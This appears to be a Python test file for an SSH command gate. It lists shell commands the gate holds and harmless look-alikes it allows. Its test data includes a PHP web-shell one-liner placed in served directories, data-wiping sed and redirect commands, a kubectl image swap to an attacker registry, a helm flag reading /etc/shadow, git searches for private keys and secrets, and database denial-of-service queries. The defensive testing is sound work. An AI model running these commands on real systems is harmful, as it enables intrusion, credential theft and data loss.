"""Session 16's ops findings (brief ops16): each attack held by its mechanism, with the
ordinary deploy look-alikes that stay allowed."""

from __future__ import annotations

import pytest

from .expect import allowed, each, held
from .test_code_write import session

# 1. a page a web server runs (PHP, ASP, JSP, CGI, .htaccess) is run by the next request,
# with no later line to hold: written with content the line does not show, it is held
# wherever it lands; the document roots hold any code file
SERVED_HELD = [
    "cp snippet.txt app/public/status.php",
    "cat snippet.txt >> site/html/index.php",
    "tee -a www/wp-content/mu-plugins/cache.php < snippet.txt",
    "cp snippet.txt src/x.phtml", "mv notes.txt app/status.php5", "cp x.txt shell.phar",
    "cp snippet.txt web/admin.aspx", "install -m 644 snip.txt app/webapp/cmd.jsp",
    "cp x.txt app/cgi-bin/status.cgi", "cp x.txt cgi-bin/status.py",
    "cd /var/www/html && cp ~/snippet.txt status.php",
    "cat snippet.txt > /var/www/site/index.php",
    "python3 gen.py > public/page.php", "cp tpl.txt app/public/.user.ini",
    "cp x.txt www/js/app.py", "cp a.txt htdocs/lib/x.rb",
]
SERVED_ALLOWED = [
    "cp dist/app.js app/public/app.js", "echo '<h1>ok</h1>' > public/health.html",
    "cp src/a.py src/b.py", "cp README.md public/README.md", "cp dist/app.css web/app.css",
    "printf '<?php system($_GET[\"c\"]); ?>' > snippet.txt",
]


def test_served_code_held() -> None:
    each(SERVED_HELD, held)


def test_served_look_alikes_allowed() -> None:
    each(SERVED_ALLOWED, allowed)


def test_served_code_dropped_across_lines_held() -> None:
    from sshgate.policy.model import Action
    acts = session([("printf '<?php system($_GET[\"c\"]); ?>' > snippet.txt", False),
                    ("cp snippet.txt app/public/status.php", False)])
    assert acts[1] is not Action.ALLOW, acts


# 2. a data file in a data directory is the service's data: emptied by a redirect, replaced
# by mv/cp, or deleted by a sed range that spans every line, as rm of it is held
DATA_HELD = [
    "sed -i '1,2147483647d' app/shared/data/ledger.csv",
    "sed -i '1,999999d' storage/users.tsv", "sed -i '2,$d' notes.txt",
    "sed -i '1,100000000d' config.yml",
    "date -u > app/shared/exports/customers.csv",
    "printf 'todo\\n' > notes.txt; mv notes.txt app/shared/storage/invoices.csv",
    "cp notes.txt storage/app/orders.json", "echo '[]' > storage/app/customers.json",
    "true > app/shared/data/orders.parquet", "cat x > uploads/report.xlsx",
    "cp /tmp/x.csv /srv/app/shared/data/ledger.csv",
]
DATA_ALLOWED = [
    "git log > /tmp/log.txt", "python3 report.py > out/report.csv",
    "sed -i '3d' notes.txt", "sed -i '3,7d' notes.txt", "echo x > notes.txt",
    "sort data.csv > /tmp/sorted.csv", "cut -d, -f1 data/users.csv > out/ids.txt",
    "jq . a.json > b.json", "curl -s https://e.example/x > data/x.csv",
    "python3 etl.py > data/clean.csv",
]


def test_data_clobber_held() -> None:
    each(DATA_HELD, held)


def test_data_look_alikes_allowed() -> None:
    each(DATA_ALLOWED, allowed)


# 3. kubectl set image: one object by name, a pinned tag or digest, not a system namespace
SET_IMAGE_HELD = [
    "kubectl set image deployments --all '*=busybox:1.36' -n prod",
    "kubectl -n kube-system set image daemonset/kube-proxy "
    "kube-proxy=registry.k8s.io/pause:3.9",
    "kubectl -n prod set image deployment/payments-api "
    "payments-api=ghcr.io/attacker-org/payments-api:latest",
    "kubectl set image deploy -l app=web web=nginx:1.27 -n prod",
    "kubectl set image deploy/web web=nginx -n prod",
    "kubectl set image deploy/web '*=nginx:1.27' -n prod",
    "kubectl set image deploy/web web=nginx:1.27 --all-namespaces",
    "kubectl set image deploy/web web=nginx:1.27 -n istio-system",
    "kubectl set image deploy/web web=nginx:1.27 --namespace=cert-manager",
    "kubectl set image deploy/web web=nginx:1.27 -A",
    "kubectl set image -f deploy.yaml web=nginx:1.27",
]
SET_IMAGE_ALLOWED = [
    "kubectl -n staging set image deployment/web web=registry.example.com/web:2024.11.3",
    "kubectl set image deployment/web web=nginx:1.27.2 -n prod",
    "kubectl set image deploy/api api=registry.example.com/api@sha256:"
    "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
]


def test_set_image_held() -> None:
    each(SET_IMAGE_HELD, held)


def test_set_image_allowed() -> None:
    each(SET_IMAGE_ALLOWED, allowed)


# 4. helm upgrade: --set keys are an allow-list (image tags, replica counts, resources)
HELM_HELD = [
    "helm upgrade redis bitnami/redis -n prod --reuse-values --set auth.enabled=false",
    "helm upgrade api acme/api -n prod --reset-values",
    "helm upgrade api acme/api -n prod --reuse-values --set image.repository=ghcr.io/x/api "
    "--set image.tag=latest",
    "helm upgrade api acme/api --set-string securityContext.privileged=true",
    "helm upgrade api acme/api --set-file config=/etc/shadow",
    "helm upgrade api acme/api --force",
    "helm upgrade api acme/api --post-renderer ./x.sh",
    "helm upgrade api acme/api --set replicaCount=0",
    "helm upgrade api acme/api --set image.tag=latest",
    "helm upgrade api acme/api --set=auth.enabled=false",
    "helm upgrade --install api acme/api --set-json 'x={\"a\":1}'",
]
HELM_ALLOWED = [
    "helm upgrade api acme/api -n prod --reuse-values --set image.tag=2024.11.3",
    "helm upgrade --install web ./chart -f values-prod.yaml",
    "helm upgrade api acme/api --set replicaCount=3",
    "helm upgrade api acme/api --set resources.limits.memory=512Mi",
    "helm upgrade api acme/api --set worker.image.tag=v1.2.3,worker.replicas=2",
]


def test_helm_held() -> None:
    each(HELM_HELD, held)


def test_helm_allowed() -> None:
    each(HELM_ALLOWED, allowed)


# 5. docker compose: a project name with a compose file from elsewhere names another stack
COMPOSE_HELD = [
    "docker compose -f /srv/monitoring/docker-compose.yml -p shop up -d --remove-orphans",
    "docker compose -f /opt/tools/docker-compose.yml -p payments up -d --force-recreate "
    "--remove-orphans",
    "docker compose up -d --remove-orphans",
    "docker compose -f docker-compose.yml --project-name shop up -d",
    "docker-compose -f x.yml -p shop up -d",
    "docker compose --file x.yml --project-name=shop up -d",
]
COMPOSE_ALLOWED = [
    "docker compose up -d", "docker compose -f docker-compose.prod.yml up -d --build",
    "docker compose -p shop ps", "docker compose -p shop logs --tail 50",
    "docker compose -f docker-compose.yml -f docker-compose.prod.yml up -d",
    "docker compose -f docker-compose.prod.yml logs -f --tail 50", "docker compose up -d --wait",
]


def test_compose_held() -> None:
    each(COMPOSE_HELD, held)


def test_compose_allowed() -> None:
    each(COMPOSE_ALLOWED, allowed)


# 6. a GET to a local admin API acts: verbs in the query, -G data, admin and dump endpoints
CURL_HELD = [
    "curl -s 'http://127.0.0.1:8983/solr/admin/cores?action=UNLOAD&core=orders"
    "&deleteIndex=true'",
    "curl -sG http://localhost:8983/solr/admin/collections --data-urlencode action=DELETE "
    "--data-urlencode name=orders",
    "curl -s -o app.hprof http://127.0.0.1:8080/actuator/heapdump",
    "curl -s http://127.0.0.1:8080/actuator/env",
    "curl -s http://127.0.0.1:8080/actuator/configprops",
    "curl -s http://127.0.0.1:8080/actuator/shutdown",
    "curl -s localhost:8080/manage/threaddump", "curl -s localhost:8080/jolokia/read/x",
    "curl -s 'localhost:8080/api?cmd=restart'", "curl -s 'localhost:8080/x?op=purge'",
    "curl -s localhost:9200/_flush", "curl -s 'localhost:9200/_cluster/nodes/_shutdown'",
    "curl -s localhost:6060/debug/pprof/heap -o heap.out",
    "curl -s localhost:8080/admin/reload",
]
CURL_ALLOWED = [
    "curl -s localhost:9090/api/v1/query?query=up",
    "curl -s http://127.0.0.1:8080/actuator/health",
    "curl -sf localhost:8000/healthz", "curl -s 'localhost:9200/_cat/indices?v'",
    "curl -s localhost:8080/actuator/info", "curl -s localhost:9090/metrics",
    "curl -s 'localhost:9200/_cluster/health?pretty'",
]


@pytest.mark.xfail(strict=True, reason="ops16: not fixed in this session")
def test_local_admin_get_held() -> None:
    each(CURL_HELD, held)


def test_local_get_allowed() -> None:
    each(CURL_ALLOWED, allowed)


# 7. a pickaxe or --grep search of history for a credential is a secret hunt, as git grep's
GIT_HELD = [
    "git -C /srv/app log -p --all -G 'aws_secret_access_key'",
    "git -C /var/www/site log --all -p -S 'PRIVATE KEY-----'",
    "git log -p -S password", "git log --all -Gapi_key -p", "git log --pickaxe-regex "
    "-S 'secret' -p", "git show --all -G 'BEGIN RSA PRIVATE' ",
    "git log -p --grep=token --all",
]
GIT_ALLOWED = ["git log -S 'parse_date' --oneline", "git log -G 'def main' -p",
               "git log --grep=fix --oneline"]


def test_history_secret_search_held() -> None:
    each(GIT_HELD, held)


def test_history_search_allowed() -> None:
    each(GIT_ALLOWED, allowed)


# 8. a format's field width or precision is bounded: a few digits
FORMAT_HELD = [
    "seq -f '%099999999.0f' 1 99999999", "seq -f '%099999999.0f' 1 99999999 > f",
    "seq -f '%.99999999f' 1 3", "printf '%0999999d' 1", "printf '%.9999999f' 1",
    "printf '%*d' 999999999 1", "seq -f '%1000000g' 1 2",
]
FORMAT_ALLOWED = ["seq -f 'node%02g' 1 10", "seq -w 1 100", "printf '%05d\\n' 42",
                  "printf '%-20s|\\n' name", "seq -f '%.3f' 0 0.5 2"]


@pytest.mark.xfail(strict=True, reason="ops16: not fixed in this session")
def test_format_width_held() -> None:
    each(FORMAT_HELD, held)


def test_format_width_allowed() -> None:
    each(FORMAT_ALLOWED, allowed)


# 9. a read that computes without bound: huge series, cross products
SQL_HELD = [
    "psql -c 'SELECT count(*) FROM generate_series(1, 100000000000)'",
    "psql -c 'SELECT a.id FROM orders a CROSS JOIN orders b ORDER BY random()'",
    "mysql -e 'SELECT COUNT(DISTINCT a.id, b.id, c.id) FROM orders a, orders b, orders c'",
    "psql -c 'select count(*) from orders a, orders b'",
    "psql -c 'select * from generate_series(1, 1e12)'",
    "clickhouse-client -q 'SELECT sum(number) FROM numbers(100000000000)'",
    "psql -c 'select count(*) from generate_series(1,10000000000) a'",
]
SQL_ALLOWED = [
    "psql -c 'SELECT * FROM generate_series(1,10)'",
    "psql -c 'select o.id from orders o join users u on u.id = o.user_id limit 5'",
    "psql -c 'select count(*) from orders'",
    "mysql -e 'select a.id from orders a, users b where a.user_id = b.id limit 5'",
]


@pytest.mark.xfail(strict=True, reason="ops16: not fixed in this session")
def test_sql_dos_held() -> None:
    each(SQL_HELD, held)


def test_sql_allowed() -> None:
    each(SQL_ALLOWED, allowed)
